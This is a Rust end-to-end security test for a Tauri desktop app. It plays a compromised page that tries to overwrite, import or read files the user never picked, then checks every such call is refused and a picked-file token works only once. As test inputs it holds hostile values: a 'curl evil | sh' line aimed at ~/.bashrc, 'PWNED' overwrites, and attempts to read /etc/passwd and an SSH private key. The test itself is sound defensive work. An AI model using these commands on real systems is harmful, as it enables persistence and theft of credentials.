//! A compromised page in the real window: a script in it calls every file-touching command directly
//! (`__TAURI_INTERNALS__.invoke`, which any script injected into a Tauri page can reach) with paths the user never
//! chose — `/etc/passwd`, `~/.bashrc`, files this test plants — and must be refused, with the files untouched and
//! nothing read into the store. Commands outside the declared list, and the dialog plugin's own commands (which
//! would hand paths back to the page), are refused by the ACL. A file the user did pick works once.
//! Also: a database that cannot be opened is reported in the window, not only on a terminal.
//! Screenshots: `tests/e2e/screenshots/security-*.png`.
mod common;

use std::path::{Path, PathBuf};
use std::time::Duration;

use registro_e2e::{screenshot_path, app_args, app_binary, Session};
use serde_json::{json, Value};

const WAIT: Duration = Duration::from_secs(30);
/// Long enough for any refusal; a command that instead opened a dialog would still be waiting.
const CALL_MS: u64 = 8000;


fn snapshot(p: &Path) -> Option<Vec<u8>> {
    std::fs::read(p).ok()
}

/// Calls `command` from the page and expects a refusal containing `why`; returns the message.
fn refused(s: &Session, command: &str, args: Value, why: &str) -> String {
    match s.invoke(command, args.clone(), CALL_MS).expect("the page answers") {
        Ok(v) => panic!("{command}({args}) was accepted (returned {v}); it must be refused"),
        Err(e) => {
            assert!(e.contains(why), "{command}({args}): refused, but not for the expected reason ({why:?}): {e}");
            e
        }
    }
}

#[test]
fn a_script_in_the_page_cannot_name_files() {
    let Some((dir, db)) = common::ready_temp_store("a_script_in_the_page_cannot_name_files") else { return };
    // Files an attacker would like to overwrite or read.
    let victim = dir.path().join("victim.txt");
    std::fs::write(&victim, "the user's own text\n").unwrap();
    let secret = dir.path().join("id_ed25519");
    std::fs::write(&secret, "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA-secret\n").unwrap();
    let scorer_json = dir.path().join("weights.json");
    std::fs::write(&scorer_json, "{}").unwrap();
    let subs = dir.path().join("submissions");
    std::fs::create_dir(&subs).unwrap();
    let chart = dir.path().join("chart.svg");
    let report = dir.path().join("report-out");
    let bashrc =
        std::env::var_os("HOME").map(|h| PathBuf::from(h).join(".bashrc")).unwrap_or_else(|| "/root/.bashrc".into());
    let watched = [
        victim.clone(),
        secret.clone(),
        scorer_json.clone(),
        chart.clone(),
        report.clone(),
        bashrc.clone(),
        "/etc/passwd".into(),
    ];
    let before: Vec<_> = watched.iter().map(|p| snapshot(p)).collect();

    // The user will pick exactly one file in a dialog, to save a document to; everything else is the script.
    let picked = dir.path().join("picked.txt");
    let s =
        Session::start(&app_binary(), &app_args(&db, dir.path(), &[Some(picked.as_path())])).expect("start the app");
    s.wait_for(r#"body[data-ready="1"]"#, WAIT).expect("the UI becomes ready");
    let project = s.invoke("create_project", json!({"name": "target"}), CALL_MS).unwrap().expect("create a project");
    let project_id = project["id"].clone();

    let not_chosen = "not a file you chose in a Registro dialog";
    let v = victim.display().to_string();
    // Old-style path arguments and path-shaped tokens alike: neither names a file.
    for (cmd, args) in [
        ("export_translation", json!({"path": v, "file": v, "text": "PWNED"})),
        ("export_rewrite", json!({"path": v, "file": v, "text": "PWNED"})),
        ("export_translation", json!({"file": bashrc.display().to_string(), "text": "curl evil | sh"})),
        (
            "dashboard_save_chart",
            json!({"key": "bars_bleu", "path": chart.display().to_string(), "file": chart.display().to_string()}),
        ),
        (
            "dashboard_export",
            json!({"dir": report.display().to_string(), "folder": report.display().to_string(), "formats": ["svg"]}),
        ),
    ] {
        let e = refused(&s, cmd, args, not_chosen);
        println!("{cmd}: {e}");
    }
    for path in [secret.display().to_string(), "/etc/passwd".to_string(), bashrc.display().to_string()] {
        let e = refused(
            &s,
            "import_document",
            json!({"projectId": project_id, "path": path, "file": path, "options": null, "opId": "x", "onProgress": "$CHANNEL"}),
            not_chosen,
        );
        println!("import_document {path}: {e}");
    }
    refused(
        &s,
        "dashboard_import_submissions",
        json!({"dir": subs.display().to_string(), "folder": subs.display().to_string(), "project": "target", "opId": "y", "onProgress": "$CHANNEL"}),
        not_chosen,
    );
    // Models and scorers are named by id: a path is refused before anything is opened.
    let e = refused(
        &s,
        "rewrite_text",
        json!({"projectId": project_id, "source": {"text": "hey"}, "request": {"lang": "en", "method": "llm", "model": secret.display().to_string()}, "opId": "z", "onProgress": "$CHANNEL", "onSentence": "$CHANNEL"}),
        "by id, not by path",
    );
    println!("rewrite_text with a model path: {e}");
    let e = refused(
        &s,
        "rewrite_text",
        json!({"projectId": project_id, "source": {"text": "hey"}, "request": {"lang": "en", "scorer": {"kind": "file", "value": scorer_json.display().to_string()}}, "opId": "z2", "onProgress": "$CHANNEL", "onSentence": "$CHANNEL"}),
        "from the CLI",
    );
    println!("rewrite_text with a weights file: {e}");
    refused(
        &s,
        "translate_text",
        json!({"projectId": project_id, "source": {"text": "hello"}, "request": {"lang": "de", "register": "formal", "model": "/etc/passwd"}, "opId": "w", "onProgress": "$CHANNEL", "onSegment": "$CHANNEL"}),
        "by id, not by path",
    );
    let e = refused(
        &s,
        "score_formality",
        json!({"sentences": ["hey"], "lang": "en", "scorer": scorer_json.display().to_string()}),
        "from the CLI",
    );
    println!("score_formality with a weights file: {e}");

    // The dialog plugin's own commands would hand the page a path: not granted. Nor is anything undeclared.
    for cmd in
        ["plugin:dialog|open", "plugin:dialog|save", "plugin:fs|read_text_file", "read_file", "plugin:shell|execute"]
    {
        let e = refused(&s, cmd, json!({"path": "/etc/passwd", "options": {}}), "not allowed");
        println!("{cmd}: {e}");
    }

    // Nothing was written, created or read into the store.
    let after: Vec<_> = watched.iter().map(|p| snapshot(p)).collect();
    for ((p, b), a) in watched.iter().zip(&before).zip(&after) {
        assert_eq!(b, a, "{} was changed", p.display());
    }
    assert!(!chart.exists() && !report.exists(), "no chart or report was written");
    let docs = s.invoke("list_documents", json!({"projectId": project_id}), CALL_MS).unwrap().unwrap();
    assert_eq!(docs, json!([]), "nothing was imported into the store");
    let runs = s.invoke("dashboard_list_runs", json!({"query": null}), CALL_MS).unwrap().unwrap();
    assert_eq!((&runs["total"], &runs["runs"]), (&json!(0), &json!([])), "no runs were created: {runs}");

    // ---- what the user picked works, once, and only for what it was picked for ----
    let chosen = s.invoke("choose_file", json!({"purpose": "save-text"}), CALL_MS).unwrap().unwrap();
    assert_eq!(chosen["path"], json!(picked.display().to_string()));
    let token = chosen["token"].clone();
    refused(
        &s,
        "dashboard_export",
        json!({"folder": token, "formats": ["svg"]}),
        "chosen to save a document, not to export a report",
    );
    // That refusal spent the token: a new pick is needed. The app has no more answers, as a user who closed it.
    let e = s.invoke("choose_file", json!({"purpose": "save-text"}), CALL_MS).unwrap().unwrap_err();
    assert!(e.contains("pre-answered"), "{e}");
    assert!(!picked.exists());

    s.screenshot(&screenshot_path("security-refused.png")).unwrap();
    s.close().unwrap();

    // A fresh window where the user picks the file twice: the first token writes, a replay does not.
    let s =
        Session::start(&app_binary(), &app_args(&db, dir.path(), &[Some(picked.as_path())])).expect("start the app");
    s.wait_for(r#"body[data-ready="1"]"#, WAIT).expect("the UI becomes ready");
    let chosen =
        s.invoke("choose_file", json!({"purpose": "save-text", "defaultName": "out.txt"}), CALL_MS).unwrap().unwrap();
    let token = chosen["token"].clone();
    let written = s
        .invoke("export_translation", json!({"file": token, "text": "Sehr geehrte Damen und Herren\n"}), CALL_MS)
        .unwrap();
    assert_eq!(written, Ok(json!(picked.display().to_string())), "the picked file is written");
    assert_eq!(std::fs::read_to_string(&picked).unwrap(), "Sehr geehrte Damen und Herren\n");
    refused(&s, "export_translation", json!({"file": token, "text": "PWNED"}), "already used");
    assert_eq!(
        std::fs::read_to_string(&picked).unwrap(),
        "Sehr geehrte Damen und Herren\n",
        "a replayed token writes nothing"
    );
    s.close().unwrap();
}

#[test]
fn a_database_that_cannot_open_is_shown_in_the_window() {
    let Some((_dir, db)) = common::ready_temp_store("a_database_that_cannot_open_is_shown_in_the_window") else { return };
    // A folder where the database file should be: SQLite cannot open it.
    std::fs::create_dir(&db).unwrap();
    let s =
        Session::start(&app_binary(), &["--db".to_string(), db.display().to_string()]).expect("the app starts anyway");
    s.wait_for(r#"body[data-ready="1"]"#, WAIT).expect("the UI becomes ready");
    let banner = s.wait_for(r#"[data-testid="startup-problem"][data-level="error"]"#, WAIT).expect("an error banner");
    let text = s.text(&banner).unwrap();
    assert!(
        text.contains("cannot open the database") && text.contains(&db.display().to_string()),
        "names the file: {text}"
    );
    assert!(text.contains("--db"), "says what to do: {text}");
    let create = s.wait_for(r#"[data-testid="create-project"]"#, WAIT).unwrap();
    let disabled =
        s.execute(r#"return document.querySelector('[data-testid="create-project"]').disabled;"#, vec![]).unwrap();
    assert_eq!(disabled, json!(true), "nothing that needs the database can be started");
    let _ = create;
    s.screenshot(&screenshot_path("security-startup-error.png")).unwrap();
    s.close().unwrap();
}
